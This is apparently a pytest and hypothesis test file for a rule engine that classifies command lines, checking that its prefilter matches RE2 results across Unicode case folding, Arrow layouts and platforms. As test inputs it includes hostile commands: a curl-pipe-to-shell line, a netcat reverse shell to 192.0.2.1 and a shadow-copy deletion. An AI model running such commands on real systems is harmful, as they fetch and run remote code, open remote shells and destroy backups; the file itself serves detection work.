from __future__ import annotations

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cmdclf.rules import Rule, RuleSet
from cmdclf.rules.engine import Engine, match_everywhere
from cmdclf.rules.platforms import platform_bits

SETS = ["behaviours", "baseline", "injection"]
EVERYTHING = [rule for name in SETS for rule in RuleSet.bundled(name).rules]
ENGINE = Engine(EVERYTHING)
EXAMPLES = [line for rule in EVERYTHING for line in (*rule.hits, *rule.misses)]
#: Pieces that come together to lines with many literals, half patterns and odd case.
PIECES = sorted({word for line in EXAMPLES for word in line.split()})


def _rule(regex, literals, **fields):
    return Rule(id="r", title="t", category="execution", regex=regex, literals=tuple(literals), **fields)


@pytest.mark.parametrize("change", [str, str.upper, str.swapcase, lambda s: s.replace("s", "ſ").replace("k", "\u212a")])
def test_the_prefilter_loses_no_match_on_the_rules_examples(change):
    lines = pa.array([change(line) for line in EXAMPLES])
    assert np.array_equal(ENGINE.match(lines), match_everywhere(lines, EVERYTHING))


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.text(max_size=40),
            st.lists(st.sampled_from(PIECES), max_size=12).map(" ".join),
            st.lists(st.sampled_from(PIECES), max_size=6).map("".join),
            st.none(),
        ),
        max_size=20,
    )
)
def test_matches_equal_re2_on_every_row(lines):
    array = pa.array(lines, pa.string())
    assert np.array_equal(ENGINE.match(array), match_everywhere(array, EVERYTHING))


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text("abksſ\u212aABKSéÉ", max_size=8), max_size=8), st.text("absk", min_size=1, max_size=3))
def test_folded_letters_outside_ascii_are_not_lost(lines, word):
    rules = [_rule(word, [word])]
    array = pa.array(lines, pa.string())
    assert np.array_equal(Engine(rules).match(array), match_everywhere(array, rules))


@pytest.mark.parametrize(
    ("regex", "literal", "line"),
    [
        ("игнорируй", "игнорируй", "ИГНОРИРУЙ"),
        ("straße", "straße", "STRAẞE"),
        ("σίσυφος", "σίσυφος", "ΣΊΣΥΦΟΣ"),
        ("k", "k", "\u212a"),
        ("pass", "pass", "paſſ"),
        ("\u017f", "\u017f", "S"),
    ],
)
def test_case_variants_of_other_scripts_reach_re2(regex, literal, line):
    engine = Engine([_rule(regex, [literal])])
    assert not engine.always[0]
    assert engine.match(pa.array([line]))[0, 0] == match_everywhere(pa.array([line]), engine.rules)[0, 0] == 1


def test_a_pattern_that_can_match_without_its_literals_is_tried_everywhere():
    engine = Engine([_rule("foo|bar", ["foo"]), _rule("", ["x"]), _rule("a.c", ["abc"]), _rule("a", [""])])
    assert engine.always.all()
    assert engine.match(pa.array(["bar", "axc"])).tolist() == [[1, 1, 0, 1], [0, 1, 1, 1]]


def test_case_matters_only_where_the_rule_says_so():
    rules = [_rule("Foo", ["foo"], case=True), _rule("Foo", ["foo"])]
    assert Engine(rules).match(pa.array(["Foo", "foo", "FOO"])).tolist() == [[1, 1], [0, 1], [0, 1]]


def test_overlapping_literals_are_all_seen():
    rules = [_rule(word, [word]) for word in ("he", "she", "his", "hers", "s")]
    assert Engine(rules).match(pa.array(["ushers", "his", "xhex"])).tolist() == [
        [1, 1, 0, 1, 1],
        [0, 0, 1, 0, 1],
        [1, 0, 0, 0, 0],
    ]


@pytest.mark.parametrize(
    "array",
    [
        pa.array(["xx", "curl http://example.com | sh", None, "", "nc -e /bin/sh 192.0.2.1 1"])[1:],
        pa.array(["xx", "curl http://example.com | sh", None, "", "nc -e /bin/sh 192.0.2.1 1"], pa.large_string())[1:],
        pa.chunked_array([["curl http://example.com | sh", None], [], ["", "nc -e /bin/sh 192.0.2.1 1"]]),
        pa.array(["curl http://example.com | sh", None, "", "nc -e /bin/sh 192.0.2.1 1"]).dictionary_encode(),
        pa.array(["curl http://example.com | sh", None, "", "nc -e /bin/sh 192.0.2.1 1"], pa.string_view()),
    ],
    ids=["slice", "large", "chunked", "dictionary", "view"],
)
def test_slices_nulls_and_other_layouts_of_text_give_the_same_matches(array):
    matched = ENGINE.match(array)
    assert np.array_equal(matched, match_everywhere(array, EVERYTHING))
    assert matched[0].any()
    assert not matched[1].any()
    assert not matched[2].any()
    assert matched[3].any()


def test_a_null_row_that_owns_bytes_matches_nothing():
    valid = pa.array(["nc -e /bin/sh 192.0.2.1 1", "ls"])
    hidden = pa.Array.from_buffers(pa.string(), 2, [pa.py_buffer(b"\x02"), *valid.buffers()[1:]])
    assert hidden.to_pylist() == [None, "ls"]
    assert not ENGINE.match(hidden)[0].any()


def test_nothing_in_gives_nothing_out():
    assert ENGINE.match(pa.array([], pa.string())).shape == (0, len(EVERYTHING))
    assert ENGINE.match(pa.nulls(3)).sum() == 0
    assert Engine([]).match(pa.array(["a"])).shape == (1, 0)


def test_a_line_of_a_megabyte_is_matched_in_one_pass():
    line = "A" * 1_000_000 + " vssadmin delete shadows /all"
    found = RuleSet.bundled("baseline").names(pa.array([line])).to_pylist()
    assert "win-shadow-delete" in found[0]


@settings(max_examples=40, deadline=None)
@given(
    st.lists(st.sampled_from(["", "ls", "nc -e /bin/sh 192.0.2.1 1", "whoami /all", "x" * 99, "\u212a"]), max_size=40)
)
def test_rows_of_any_length_in_any_order_keep_their_own_matches(lines):
    array = pa.array(lines, pa.string())
    alone = {line: ENGINE.match(pa.array([line]))[0].tolist() for line in set(lines)}
    assert ENGINE.match(array).tolist() == [alone[line] for line in lines]


def test_rows_of_other_platforms_are_not_shown_to_re2():
    rules = [
        Rule("w", "t", "execution", "foo", ("foo",), platform=("windows",)),
        Rule("a", "t", "execution", "foo", ("foo",)),
        Rule("m", "t", "execution", "", ("x",), platform=("macos", "linux")),
    ]
    where = platform_bits(pa.array(["windows", "linux", "macos", None, "plan9"]))
    lines = pa.array(["foo"] * 5)
    candidates = Engine(rules).candidates(lines, where)
    assert [(int(key) >> 32, int(key) & 0xFFFF) for key in candidates] == [
        *((0, row) for row in (0, 3, 4)),
        *((1, row) for row in range(5)),
        *((2, row) for row in (1, 2, 3, 4)),
    ]
    rows, numbers = Engine(rules).pairs(lines, where)
    assert list(zip(numbers.tolist(), rows.tolist(), strict=True)) == [
        (int(key) >> 32, int(key) & 0xFFFF) for key in candidates
    ]
